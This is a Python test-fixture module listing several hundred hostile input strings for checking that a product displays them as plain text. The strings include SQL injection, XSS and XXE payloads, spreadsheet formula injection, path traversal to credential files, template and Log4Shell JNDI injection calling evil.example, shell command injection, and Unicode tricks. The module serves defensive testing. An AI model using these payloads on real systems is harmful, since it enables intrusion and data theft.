"""More than 300 texts that mean something to a machine, and are nothing but text to this product.

Every address is at `evil.example`, every piece of script would set `window.pwned`: what a browser or a log shows of
either is a fault.
"""

from __future__ import annotations

HOST = "evil.example"
MARK = "pwned"

SQL = """
'; DROP TABLE versions; --
" ; DROP TABLE courses ; --
' OR '1'='1
" OR ""="
1; ATTACH 'x.db' AS x; --
'); DELETE FROM versions; --
' UNION SELECT * FROM versions --
x' || (SELECT name FROM versions) || 'x
'; COPY versions TO '/tmp/pwned.csv'; --
'; INSTALL httpfs; LOAD httpfs; --
read_csv('/etc/passwd')
SELECT * FROM 'https://evil.example/a.parquet'
PRAGMA database_list
courses"."patient_id
"analysis"
"; SET lock_configuration=false; --
\\'; DROP TABLE versions; --
%' LIKE '%
' AND 1=CAST((SELECT 1) AS INT) --
admin'/*
*/ OR 1=1 /*
`versions`
[versions]
$1
?1
:name
@variable
0x27204f52
CHAR(39)
line
course_row
first
selection
rowid
NULL::VARCHAR
"""
PYTHON = """
__import__('os').system('touch /tmp/pwned')
{0.__class__.__mro__}
{self.__init__.__globals__}
%(password)s
%s%s%s%n
{}{}{}
{0}
{name!r:>{width}}
exec("import os")
eval(compile('1','x','eval'))
lambda: 1/0
C(a)[T.b] + I(x**2)
np.log(a)
Q("x")
a ~ b + c
a:b
`a b`
@pd.eval('1+1')
cos(pi)
pickle.loads(b"cos\\nsystem\\n(S'ls'\\ntR.")
!!python/object/apply:os.system ["ls"]
__class__
__dict__
self
None.__class__
os.environ['HOME']
\\x41\\u0041
\\N{BULLET}
r'\\d+(.*)'
(a+)+$
"""
HTML = """
<script>window.pwned=1</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<img src=x onerror=window.pwned=1>
<img src="https://evil.example/i.png">
<svg onload=window.pwned=1>
<svg><script>window.pwned=1</script></svg>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<object data="https://evil.example/o.swf"></object>
<embed src="https://evil.example/e">
<link rel=stylesheet href="https://evil.example/s.css">
<style>@import 'https://evil.example/s.css';</style>
<style>body{background:url(https://evil.example/b.png)}</style>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<form action="https://evil.example"><input type=submit></form>
<a href="javascript:window.pwned=1">x</a>
<a href="https://evil.example/a">x</a>
<body onload=window.pwned=1>
<video src=x onerror=window.pwned=1></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<math><mi xlink:href="javascript:window.pwned=1">x</mi></math>
<details open ontoggle=window.pwned=1>x</details>
<input autofocus onfocus=window.pwned=1>
<marquee onstart=window.pwned=1>x</marquee>
<template><img src=x onerror=window.pwned=1></template>
<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">
<!--<img src="--><img src=x onerror=window.pwned=1>
<div style="width:expression(window.pwned=1)">
<table background="https://evil.example/t.png">
"><script>window.pwned=1</script>
'><img src=x onerror=window.pwned=1>
</textarea><script>window.pwned=1</script>
</title><script>window.pwned=1</script>
</script><script>window.pwned=1</script>
<<script>window.pwned=1//<</script>
<img/src=`x`onerror=window.pwned=1>
&lt;script&gt;window.pwned=1&lt;/script&gt;
&#60;img src=x onerror=window.pwned=1&#62;
&#x3C;b&#x3E;
&nbsp;&copy;&amp;
<b>bold</b>
<h1>heading</h1>
<br>
<p hidden>
<?php system('ls'); ?>
<%= 7*7 %>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<x>&e;</x>
]]>
<![CDATA[x]]>
javascript:window.pwned=1
vbscript:msgbox(1)
data:text/html,<script>window.pwned=1</script>
data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==
"""
MARKDOWN = """
![x](https://evil.example/m.png)
![x][ref]
[ref]: https://evil.example/r.png
[click](https://evil.example/c)
[click](javascript:window.pwned=1)
<https://evil.example/auto>
https://evil.example/bare
www.evil.example
evil@evil.example.invalid
**bold**
__bold__
*italic*
_italic_
~~gone~~
`code`
```python
# heading
## heading
> quote
- item
* item
+ item
1. item
---
***
===
| a | b |
|---|---|
a | b
$E=mc^2$
$$\\int_0^1$$
\\(x\\)
\\[x\\]
:smile:
:material/warning:
:red[danger]
:blue-background[x]
:orange-badge[synthetic]
:streamlit:
:small[x]
:primary[x]
==mark==
^sup^
~sub~
[^1]
[^1]: note
- [ ] task
!include x
\\
\\*
a\\|b
"""
FORMULAS = """
=1+1
=HYPERLINK("https://evil.example","x")
=IMAGE("https://evil.example/i.png")
=WEBSERVICE("https://evil.example")
=IMPORTXML("https://evil.example","//a")
=IMPORTDATA("https://evil.example")
=cmd|'/C calc'!A0
=DDE("cmd","/C calc","x")
+1+1
+cmd|'/C calc'!A0
-1+1
-2+3+cmd|'/C calc'!A0
@SUM(1+1)
@evil
=SUM(A1:A9)
=A1
=-1
=+1
="x"
='x'!A1
+49 x
-x
=@x
=;1
=,1
%0A=1+1
;=1+1
,=1+1
"=1+1"
'=1+1
\u00a0=1+1
\uff1d1+1
\u22121
=\u202e1+1
"""
PATHS = """
../../etc/passwd
..\\..\\windows\\win.ini
/etc/shadow
C:\\Windows\\System32\\cmd.exe
\\\\evil.example\\share
file:///etc/passwd
%2e%2e%2f%2e%2e%2fetc%2fpasswd
..%c0%af..%c0%afetc/passwd
....//....//etc/passwd
~/.ssh/id_rsa
/dev/null
/proc/self/environ
CON
PRN
AUX
NUL
COM1
LPT1
a/b
a\\b
.
..
...
.hidden
-rf
--help
--db=/tmp/x
x.csv.exe
x%00.csv
x;.csv
*
?*.csv
"""
MACHINES = """
{{7*7}}
{{config.items()}}
{% for x in y %}{% endfor %}
${7*7}
${jndi:ldap://evil.example/a}
${jndi:dns://evil.example/a}
${${lower:j}ndi:ldap://evil.example/a}
${env:HOME}
#{7*7}
<%= system('ls') %>
@{x}
*{7*7}
[[${7*7}]]
$(touch /tmp/pwned)
`touch /tmp/pwned`
; touch /tmp/pwned
| touch /tmp/pwned
&& touch /tmp/pwned
& calc
> /tmp/pwned
$HOME
%PATH%
!!
() { :;}; echo x
datum.x
datum['constructor']
{"$where": "1"}
{"signal": "x"}
{"a": [1
["a"]
null
undefined
true
NaN
Infinity
-0
1e999
0x10
0b1
1_000
١٢٣
constructor
prototype
__proto__
toString
hasOwnProperty
http://evil.example
https://evil.example/?q=1&b=2#x
ftp://evil.example/x
//evil.example/x
mailto:x@evil.example.invalid?subject=1
tel:+100
ldap://evil.example
s3://evil.example/x
blob:https://evil.example/x
%0d%0aSet-Cookie:x=1
course=1&grade=2
a..b
~
a&b=c
a=b
a,b;c
a%20b
grade>=2
"""
UNICODE = (
    "\u202eevil\u202c",
    "a\u202eb",
    "\u2066x\u2069",
    "\u2067abc\u2069",
    "\u200b",
    "a\u200bb",
    "\u200d",
    "\ufeffx",
    "\u2060x",
    "\u00ad",
    "x\u2028y",
    "x\u2029y",
    "\u0085x",
    "e\u0301" * 20,
    "Z\u0334\u0321\u0358\u035b" * 8,
    "\u0430dmin",
    "\uff21\uff22",
    "\U0001f469\u200d\U0001f469\u200d\U0001f466",
    "\U0001f1e7\U0001f1ea",
    "\U000e0041\U000e0042",
    "\ue000",
    "\uffff",
    "\ufffd",
    "\U0010ffff",
    "ﷺ" * 5,
    "\u0644\u0627",
    "\u05d0\u05d1 abc",
    "ı İ ß ſ",
    "\u1680x",
    "\u3000x",
    "\u00a0x\u00a0y",
    "\u2003wide",
)
CONTROLS = (
    "a\tb",
    "\t=1+1",
    "a\r\nb",
    "a\nb\nc",
    "\r=1+1",
    "a\x01b",
    "a\x07b",
    "a\x08b",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "a\x0bb",
    "a\x0cb",
    "a\x7fb",
    "a\x80b",
    "a\x9bb",
    "a\x1cb",
    "a\x1fb",
)
LONG = (
    "x" * 5_000,
    "<b>" * 900,
    "![a](https://evil.example/l.png)" * 60,
    "= " * 600,
    "ab " * 700,
    "e\u0301" * 900,
    "(" * 700,
    "\u202e" * 300,
    "{{" * 400,
    "'" * 800,
)


def _lines(text: str) -> tuple[str, ...]:
    return tuple(text.strip("\n").split("\n"))


BY_KIND: dict[str, tuple[str, ...]] = {
    "sql": _lines(SQL),
    "python": _lines(PYTHON),
    "html": _lines(HTML),
    "markdown": _lines(MARKDOWN),
    "formula": _lines(FORMULAS),
    "path": _lines(PATHS),
    "machine": _lines(MACHINES),
    "unicode": UNICODE,
    "control": CONTROLS,
    "long": LONG,
}
HOSTILE: tuple[str, ...] = tuple(dict.fromkeys(text for texts in BY_KIND.values() for text in texts))
"""Each once."""
